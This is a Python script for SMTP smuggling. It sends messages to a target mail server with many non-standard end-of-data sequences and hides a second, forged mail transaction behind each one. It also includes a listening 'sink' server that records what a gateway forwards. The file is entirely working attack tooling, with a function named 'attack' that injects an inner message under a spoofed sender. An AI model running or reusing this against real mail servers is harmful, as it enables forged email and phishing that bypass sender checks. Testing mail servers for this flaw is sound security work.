"""Mail in which a second one is hidden behind what some servers take for the end of the first.

send HOST PORT data|bdat TO [USER PASSWORD]
    sends TO one message for each such end, and prints for each of them the message's sender and the codes of the replies
    from the end on: one to the message, and 221 to QUIT, if nothing was found behind it
sink ADDRESS DIRECTORY
    is the server at port 25 that takes what a gateway sends on, and ends a message at CRLF.CRLF and nowhere else; a
    message is a file called by its sender, with the octets as they came
"""
import base64, os, socket, sys
from concurrent.futures import ThreadPoolExecutor

ENDS = {
    "lf.lf": b"\n.\n", "lf.cr": b"\n.\r", "lf.crlf": b"\n.\r\n", "cr.lf": b"\r.\n", "cr.cr": b"\r.\r",
    "cr.crlf": b"\r.\r\n", "crlf.lf": b"\r\n.\n", "crlf.cr": b"\r\n.\r", "crlf.crcrlf": b"\r\n.\r\r\n",
    "crcrlf.crlf": b"\r\r\n.\r\n", "crcrlf.crcrlf": b"\r\r\n.\r\r\n", "lfcrlf.crlf": b"\n\r\n.\r\n",
    "crlfnul.crlf": b"\r\n\0.\r\n", "crlf.nulcrlf": b"\r\n.\0\r\n", "nul.crlf": b"\n\0.\r\n",
}
# The end that all servers know: by DATA two messages, by BDAT a line of one.
CLEAR = b"\r\n.\r\n"
WORKERS = 8


class Reader:
    def __init__(self, connection):
        self.connection, self.rest = connection, b""

    def until(self, end):
        """What comes before `end`; None if the connection ends first."""
        while end not in self.rest:
            try:
                octets = self.connection.recv(1 << 16)
            except ConnectionResetError:
                octets = b""
            if not octets:
                return None
            self.rest += octets
        found, self.rest = self.rest.split(end, 1)
        return found

    def reply(self):
        """The code of the next reply; None if the connection ends first."""
        while (line := self.until(b"\r\n")) is not None:
            if line[3:4] != b"-":
                return int(line[:3])


def attack(case, host, port, way, to, login):
    name, place, end = case
    sender = f"{name}-{place}-{way}-{port}@b.example"
    with socket.create_connection((host, int(port)), 60) as connection:
        reader = Reader(connection)

        def say(line, expected):
            if line is not None:
                connection.sendall(line.encode() + b"\r\n")
            code = reader.reply()
            assert code == expected, (sender, line, code)

        say(None, 220)
        say("EHLO b.example", 250)
        if login:
            say("AUTH PLAIN " + base64.b64encode("\0".join(["", *login]).encode()).decode(), 235)
        say(f"MAIL FROM:<{sender}>", 250)
        say(f"RCPT TO:<{to}>", 250)
        before = b"\r\n" if place == "line" else b""
        outer = f"From: {sender}\r\nTo: {to}\r\nSubject: outer\r\n\r\nbefore".encode() + before + end
        inner = f"MAIL FROM:<inner-{sender}>\r\nRCPT TO:<{to}>\r\nDATA\r\nFrom: inner-{sender}\r\nTo: {to}\r\nSubject: inner"
        message = outer + inner.encode() + b"\r\n\r\ninner text"
        if way == "data":
            say("DATA", 354)
            stream = message + CLEAR
        else:
            message += b"\r\n"
            stream = f"BDAT {len(message)} LAST\r\n".encode() + message
        connection.sendall(stream + b"QUIT\r\n")
        codes = []
        while (code := reader.reply()) is not None:
            codes.append(str(code))
    sys.stdout.write(" ".join([sender, *codes]) + "\n")


def send(host, port, way, to, *login):
    ends = {**ENDS, "clear": CLEAR}
    cases = [(name, place, end) for name, end in ends.items() for place in ("text", "line")]
    with ThreadPoolExecutor(WORKERS) as pool:
        list(pool.map(lambda case: attack(case, host, port, way, to, login), cases))


def take(connection, directory):
    with connection:
        reader, sender = Reader(connection), None
        connection.sendall(b"220 sink\r\n")
        while (command := reader.until(b"\r\n")) is not None:
            verb = command[:4].upper()
            if verb == b"MAIL":
                sender = command.split(b"<")[1].split(b">")[0].decode()
            if verb == b"QUIT":
                connection.sendall(b"221 bye\r\n")
                return
            if verb != b"DATA":
                connection.sendall(b"250 go on\r\n")
                continue
            connection.sendall(b"354 go on\r\n")
            message = reader.until(CLEAR)
            if message is None:
                return
            # In one go, under a name that nobody looks for before.
            number = len(os.listdir(directory))
            path = os.path.join(directory, f".{number}-{connection.fileno()}-{sender}")
            with open(path, "wb") as file:
                file.write(message + b"\r\n")
            place = os.path.join(directory, sender)
            assert not os.path.exists(place), sender
            os.rename(path, place)
            connection.sendall(b"250 taken\r\n")


def sink(address, directory):
    with socket.create_server((address, 25)) as listener, ThreadPoolExecutor(64) as pool:
        while True:
            pool.submit(take, listener.accept()[0], directory)


{"send": send, "sink": sink}[sys.argv[1]](*sys.argv[2:])
